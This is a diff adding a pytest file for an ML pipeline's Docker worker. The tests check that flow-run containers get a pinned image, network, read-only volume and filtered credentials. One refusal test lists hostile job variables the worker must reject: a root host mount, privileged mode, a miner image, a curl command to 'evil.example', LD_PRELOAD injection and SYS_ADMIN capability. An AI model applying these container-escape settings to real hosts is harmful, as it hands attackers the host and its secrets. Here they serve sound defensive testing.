@@ -1,0 +1,121 @@
+"""The docker work pool (ops/containers.py, flows/worker.py --type docker): what a flow run's
+container gets and what a run may not choose. `make stack-check` runs the real thing: two
+retrains at once in containers of the project's image, on podman's Docker API."""
+
+import asyncio
+import subprocess
+import sys
+import uuid
+
+import pytest
+
+from cifar10_mlops.core.errors import PipelineError
+from cifar10_mlops.ops import containers
+from cifar10_mlops.ops.containers import ALLOWED, PASSED, FlowRunContainer
+from helpers import REPO
+
+CONTAINER = FlowRunContainer(
+    image="cifar10-mlops:cpu", networks=["stack_default"], volumes=["/srv/data:/datasets:ro"]
+)
+
+
+def prepared(job_variables: dict):
+    """A docker job configuration as the worker gets it: the pool's template with a run's
+    variables, prepared for that run."""
+    from prefect.client.schemas.objects import FlowRun
+    from prefect_docker.worker import DockerWorkerJobConfiguration
+
+    template = containers.pinned_template()
+    config = asyncio.run(
+        DockerWorkerJobConfiguration.from_template_and_values(
+            template, job_variables
+        )
+    )
+    config.prepare_for_flow_run(FlowRun(flow_id=uuid.uuid4(), name="brave-otter"))
+    return config
+
+
+def test_the_pools_template_leaves_a_run_only_its_memory_limits():
+    template = containers.pinned_template()
+    assert set(template["variables"]["properties"]) == set(ALLOWED)
+    assert template["variables"]["additionalProperties"] is False
+    assert set(template["job_configuration"]) == set(ALLOWED)
+    assert "$defs" not in template["variables"]
+
+
+def test_a_runs_container_is_the_workers_image_network_and_datasets_with_passed_credentials():
+    config = prepared({"mem_limit": "2g"})
+    worker_env = {
+        **{name: f"value-of-{name.lower()}" for name in PASSED},
+        "MLFLOW_ADMIN_PASSWORD": "admin-secret", "POSTGRES_PASSWORD": "db-secret",
+        "DOCKER_HOST": "unix:///run/docker.sock", "HOME": "/root", "PYTHONSTARTUP": "/x.py",
+    }  # fmt: skip
+    CONTAINER.apply(config, worker_env)
+    assert (config.image, config.image_pull_policy) == ("cifar10-mlops:cpu", "Never")
+    assert config.networks == ["stack_default"] and config.network_mode is None
+    assert config.volumes == ["/srv/data:/datasets:ro"]  # the only mount: its own work tree
+    assert config.auto_remove is True and config.privileged is False
+    assert config.container_create_kwargs is None and config.mem_limit == "2g"
+    env = config.env
+    assert "PREFECT__FLOW_RUN_ID" in env  # the run's own, kept
+    assert env["MLFLOW_TRACKING_PASSWORD"] == "value-of-mlflow_tracking_password"
+    assert not {"MLFLOW_ADMIN_PASSWORD", "POSTGRES_PASSWORD", "DOCKER_HOST", "HOME"} & set(env)
+    assert "PYTHONSTARTUP" not in env
+    assert set(env) <= {*PASSED, *(k for k in env if k.startswith("PREFECT"))}
+    assert config.command == "prefect flow-run execute"
+
+
+def test_an_unset_credential_is_not_passed_as_empty():
+    config = prepared({})
+    CONTAINER.apply(config, {"MLFLOW_TRACKING_URI": "http://mlflow:5000", "DVC_REMOTE": ""})
+    assert config.env["MLFLOW_TRACKING_URI"] == "http://mlflow:5000"
+    assert "DVC_REMOTE" not in config.env
+
+
+def test_a_docker_worker_refuses_runs_that_choose_their_container():
+    """Any Prefect API user may start a run: with its own volumes, image, command or
+    privileges it would have the host (the engine's socket) and the worker's credentials."""
+    from prefect.client.schemas.objects import FlowRun
+
+    from flows.worker import PinnedDockerWorker
+
+    worker = PinnedDockerWorker(work_pool_name="docker")
+    worker.container = CONTAINER
+    for asked in (
+        {"volumes": ["/:/host"]},
+        {"privileged": True},
+        {"image": "evil/miner:latest"},
+        {"command": "sh -c 'curl evil.example'"},
+        {"env": {"LD_PRELOAD": "/tmp/x.so"}},
+        {"container_create_kwargs": {"cap_add": ["SYS_ADMIN"]}},
+        {"networks": ["host"], "mem_limit": "1g"},
+    ):
+        run = FlowRun(flow_id=uuid.uuid4(), job_variables=asked)
+        with pytest.raises(PipelineError, match=r"^job variables .* are refused by this worker"):
+            asyncio.run(worker.run(run, configuration=None))
+
+
+def test_no_docker_api_is_one_line_saying_how_to_start_one(monkeypatch, tmp_path):
+    monkeypatch.setenv("DOCKER_HOST", f"unix://{tmp_path}/nothing.sock")
+    with pytest.raises(PipelineError) as err:
+        containers.docker_client()
+    message = str(err.value)
+    assert message.startswith(f"no Docker API at unix://{tmp_path}/nothing.sock: ")
+    assert "podman system service" in message and "\n" not in message
+
+
+@pytest.mark.parametrize(
+    ("args", "said"),
+    [
+        (["--type", "docker", "--limit", "0"], "error: --limit 0: give 1 to 64 flow runs at a time"),
+        (["--limit", "2"], "error: --limit: a process worker runs one flow run at a time"),
+        (["--type", "kubernetes"], "invalid choice: 'kubernetes'"),
+    ],
+)
+def test_the_workers_flags_are_checked_in_one_line(args, said):
+    found = subprocess.run(
+        [sys.executable, "-m", "flows.worker", "--pool", "docker", *args],
+        cwd=REPO, capture_output=True, text=True, timeout=120,
+    )  # fmt: skip
+    assert found.returncode != 0
+    assert said in found.stderr, found.stderr[-500:]
